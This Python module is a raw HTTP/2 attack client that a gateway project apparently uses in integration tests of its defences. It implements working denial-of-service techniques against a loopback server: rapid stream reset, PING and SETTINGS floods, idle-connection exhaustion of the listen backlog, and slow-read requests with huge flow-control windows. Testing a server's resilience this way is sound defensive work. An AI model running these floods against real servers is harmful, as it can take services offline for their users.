"""A raw HTTP/2 attacker: the h2 library over a plain blocking socket, no gRPC client.

Each function is a bounded loop against a gateway on loopback and returns what it saw
(connections made, GOAWAY codes received, whether the server closed the connection). Used by
``scripts.attack.edge`` and by the tests in tests/integration/test_edge*.py (in a thread or a
subprocess, so a gateway in the same process keeps its event loop).
"""

from __future__ import annotations

import contextlib
import socket
import struct
import time
from collections import Counter
from dataclasses import dataclass, field

import h2.config
import h2.connection
import h2.events
import h2.exceptions
from h2.errors import ErrorCodes
from h2.settings import SettingCodes

#: ``Publish`` is cheap and needs no bucket; the gateway never sees its body here.
PATH = "/isa.nats.NATSService/Publish"
_BIG_WINDOW = 2**31 - 1


def request_headers(path: str = PATH) -> list[tuple[str, str]]:
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "natsgw"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]


def grpc_message(payload: bytes) -> bytes:
    """One length-prefixed, uncompressed gRPC message."""
    return struct.pack(">?I", False, len(payload)) + payload


@dataclass
class Seen:
    """What one attack saw."""

    connections: int = 0
    sent: int = 0
    goaways: Counter[str] = field(default_factory=Counter)
    closed_by_server: int = 0
    refused: int = 0

    def summary(self) -> str:
        codes = ",".join(f"{k}x{v}" for k, v in sorted(self.goaways.items())) or "none"
        return (
            f"sent={self.sent} connections={self.connections} goaway={codes} "
            f"closed_by_server={self.closed_by_server} refused={self.refused}"
        )


class Client:
    """One HTTP/2 client connection, client side of h2, blocking socket."""

    def __init__(
        self, port: int, *, source: str = "127.0.0.1", big_windows: bool = False, timeout: float = 5
    ) -> None:
        self.sock = socket.create_connection(
            ("127.0.0.1", port), timeout=timeout, source_address=(source, 0)
        )
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.h2 = h2.connection.H2Connection(
            h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        )
        self.h2.initiate_connection()
        if big_windows:
            self.h2.update_settings({SettingCodes.INITIAL_WINDOW_SIZE: _BIG_WINDOW})
            self.h2.increment_flow_control_window(_BIG_WINDOW - 65535)
        self.goaway: str | None = None
        self.closed = False
        #: Give back the window of each DATA frame read (a client that reads, however slowly),
        #: on every stream or only on those in ``ack_only``.
        self.ack_data = False
        self.ack_only: set[int] | None = None
        #: DATA bytes read.
        self.received = 0

    def flush(self) -> None:
        data = self.h2.data_to_send()
        if data:
            self.sock.sendall(data)

    def drain(self, wait: float = 0.0) -> None:
        """Read what the server sent (for at most ``wait`` seconds); notes GOAWAY and EOF."""
        self.sock.settimeout(wait if wait > 0 else 0.0001)
        try:
            while not self.closed:
                data = self.sock.recv(1 << 16)
                if not data:
                    self.closed = True
                    break
                self._feed(data)
        except (BlockingIOError, TimeoutError):
            pass
        except OSError:
            self.closed = True

    def read_some(self, wait: float) -> None:
        """One read of at most 64 KiB (waiting at most ``wait`` seconds): a slow reader's step."""
        self.sock.settimeout(wait)
        try:
            data = self.sock.recv(1 << 16)
        except (BlockingIOError, TimeoutError):
            return
        except OSError:
            data = b""
        if data:
            self._feed(data)
        else:
            self.closed = True

    def wait_closed(self, timeout: float) -> bool:
        """Read until the server closes the connection or ``timeout`` passes."""
        deadline = time.monotonic() + timeout
        while not self.closed and time.monotonic() < deadline:
            self.drain(min(0.2, max(0.001, deadline - time.monotonic())))
        return self.closed

    def _feed(self, data: bytes) -> None:
        try:
            events = self.h2.receive_data(data)
        except h2.exceptions.ProtocolError:
            return
        for event in events:
            if isinstance(event, h2.events.ConnectionTerminated):
                code = event.error_code
                name = code.name if isinstance(code, ErrorCodes) else str(code)
                self.goaway = name
            elif isinstance(event, h2.events.DataReceived):
                self.received += len(event.data)
                sid = event.stream_id
                acked = self.ack_only is None or sid in self.ack_only
                if self.ack_data and acked and sid in self.h2.streams:
                    self.h2.acknowledge_received_data(event.flow_controlled_length, sid)
        with contextlib.suppress(OSError):
            self.flush()

    def open_request(self, path: str = PATH, body: bytes | None = None) -> int:
        sid = self.h2.get_next_available_stream_id()
        self.h2.send_headers(sid, request_headers(path), end_stream=body is None)
        if body is not None:
            self.h2.send_data(sid, grpc_message(body), end_stream=True)
        return sid

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.sock.close()


def _note(seen: Seen, client: Client) -> None:
    if client.goaway is not None:
        seen.goaways[client.goaway] += 1
    if client.closed:
        seen.closed_by_server += 1


def rapid_reset(port: int, streams: int, *, burst: int = 100, max_seconds: float = 60.0) -> Seen:
    """Open a request and reset it at once (HEADERS + RST_STREAM, no credential, no body),
    ``streams`` times in bursts of ``burst``; reconnect whenever the server ends a connection."""
    seen = Seen()
    deadline = time.monotonic() + max_seconds
    client: Client | None = None
    while seen.sent < streams and time.monotonic() < deadline:
        if client is None:
            client = Client(port)
            seen.connections += 1
        try:
            for _ in range(min(burst, streams - seen.sent)):
                sid = client.open_request()
                client.h2.reset_stream(sid, ErrorCodes.CANCEL)
                seen.sent += 1
            client.flush()
            client.drain()
        except (OSError, h2.exceptions.ProtocolError):
            client.closed = True
        if client.closed or client.goaway is not None:
            _note(seen, client)
            client.close()
            client = None
    if client is not None:
        client.drain(0.2)
        _note(seen, client)
        client.close()
    return seen


def control_flood(port: int, kind: str, count: int, *, max_seconds: float = 30.0) -> Seen:
    """Send ``count`` PING (``kind="ping"``) or SETTINGS frames without ever reading, then look
    whether the server answered with a GOAWAY or closed the connection."""
    seen = Seen()
    client = Client(port)
    seen.connections = 1
    client.flush()
    client.sock.settimeout(2.0)  # a server that stops reading us: the flood stops here
    deadline = time.monotonic() + max_seconds
    try:
        while seen.sent < count and time.monotonic() < deadline:
            for _ in range(100):
                if kind == "ping":
                    client.h2.ping(struct.pack(">Q", seen.sent))
                else:
                    client.h2.update_settings({SettingCodes.MAX_CONCURRENT_STREAMS: 100})
                seen.sent += 1
            client.sock.sendall(client.h2.data_to_send())
    except (OSError, h2.exceptions.ProtocolError):
        pass
    client.wait_closed(3.0)
    _note(seen, client)
    client.close()
    return seen


def idle_connections(
    port: int,
    count: int,
    *,
    source: str = "127.0.0.1",
    preface: bool = True,
    max_seconds: float = 20.0,
) -> tuple[list[Client], Seen]:
    """Open ``count`` connections that send nothing (``preface=False``) or only the preface;
    a connection attempt that takes over a second counts as refused (a full listen backlog)."""
    seen = Seen()
    clients: list[Client] = []
    deadline = time.monotonic() + max_seconds
    for _ in range(count):
        if time.monotonic() > deadline:
            seen.refused += 1
            continue
        try:
            client = Client(port, source=source, timeout=1.0)
            if preface:
                client.flush()
        except OSError:
            seen.refused += 1
            continue
        seen.connections += 1
        clients.append(client)
    return clients, seen


def unread_answers(
    port: int, path: str, body: bytes, streams: int, *, group: int = 4, pause: float = 0.3
) -> Client:
    """One connection with huge flow-control windows asking ``streams`` times for ``path``
    (e.g. an 8 MiB ObjectGet), ``group`` requests every ``pause`` seconds (many concurrent large
    reads at once are row D of issue 17, another defence), never reading an answer; the caller
    closes it."""
    client = Client(port, big_windows=True)
    client.sock.settimeout(2.0)
    opened = 0
    while opened < streams:
        for _ in range(min(group, streams - opened)):
            client.open_request(path, body)
            opened += 1
        try:
            client.flush()
        except OSError:
            client.closed = True
            break
        time.sleep(pause)
    return client


def main(argv: list[str] | None = None) -> int:
    """``python -m scripts.attack.h2raw reset|ping|settings PORT COUNT``: one attack in its own
    process (so it competes with the gateway for CPU, not for a GIL); prints what it saw as
    JSON on one line."""
    import json
    import sys

    kind, port, count = (argv if argv is not None else sys.argv[1:])[:3]
    if kind == "reset":
        seen = rapid_reset(int(port), int(count))
    else:
        seen = control_flood(int(port), kind, int(count))
    print(json.dumps({**seen.__dict__, "goaways": dict(seen.goaways)}), flush=True)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
